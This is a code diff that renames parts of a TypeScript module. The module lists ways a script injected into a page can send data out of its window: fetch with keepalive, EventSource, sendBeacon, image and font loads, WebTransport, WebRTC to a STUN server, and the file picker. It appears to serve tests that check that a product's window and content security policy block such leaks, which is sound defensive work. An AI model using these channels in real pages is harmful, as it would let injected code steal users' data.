@@ -1,19 +1,19 @@
 /*
- * Ways for a page to send its content out of its window. Each runs in the page like an injected script. It
- * may throw or never resolve; only the data that gets out counts.
+ * Attempts of a page to send data out of its window. Each runs in the page like an injected script and may
+ * throw or never resolve; only data that leaves counts.
  */
 
-export interface Aim {
+export interface ExfiltrationTarget {
   readonly url: string;
   readonly udp: number;
   readonly tcp: number;
   readonly rows: string;
 }
 
-type Ways = Readonly<Record<string, (aim: Aim) => unknown>>;
+type Attempts = Readonly<Record<string, (target: ExfiltrationTarget) => unknown>>;
 
 /** Requests that the content security policy controls in both shells. */
-export const byNetwork: Ways = {
+export const networkAttempts: Attempts = {
   fetch: ({ url: to, rows }) => fetch(to, { method: 'POST', body: rows, mode: 'no-cors' }),
   'fetch that outlives the page': ({ url: to, rows }) =>
     fetch(to, { method: 'POST', body: rows, mode: 'no-cors', keepalive: true }),
@@ -28,7 +28,7 @@ export const byNetwork: Ways = {
   },
   EventSource: ({ url: to, rows }) => void new EventSource(`${to}?${rows}`),
   sendBeacon: ({ url: to, rows }) => navigator.sendBeacon(to, rows),
-  'a picture': ({ url: to, rows }) => void (new Image().src = `${to}?${rows}`),
+  'an image': ({ url: to, rows }) => void (new Image().src = `${to}?${rows}`),
   'a font': async ({ url: to }) => {
     const font = new FontFace('out', `url(${to}font.woff2)`);
     await font.load();
@@ -74,8 +74,8 @@ export const byNetwork: Ways = {
   },
 };
 
-/** Other ways that a browser has and the product's window blocks. */
-export const byBrowser: Ways = {
+/** Attempts with other browser features, which the product's window blocks. */
+export const browserAttempts: Attempts = {
   WebTransport: ({ tcp: port }) => void new WebTransport(`https://127.0.0.1:${port}/`),
   'WebRTC to a STUN server': async ({ udp: port }) => {
     const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
@@ -112,9 +112,9 @@ export const byBrowser: Ways = {
   },
   'the file picker': async ({ rows }) => {
     const pick: unknown = Reflect.get(window, 'showSaveFilePicker');
-    if (typeof pick !== 'function') throw new Error('there is none');
+    if (typeof pick !== 'function') throw new Error('the browser has no file picker');
     const handle: unknown = await Reflect.apply(pick, window, []);
-    throw new Error(`it opened: ${String(handle)} ${rows.length}`);
+    throw new Error(`the file picker opened: ${String(handle)} ${rows.length}`);
   },
   'the origin’s own file system': async () => {
     const root = await navigator.storage.getDirectory();
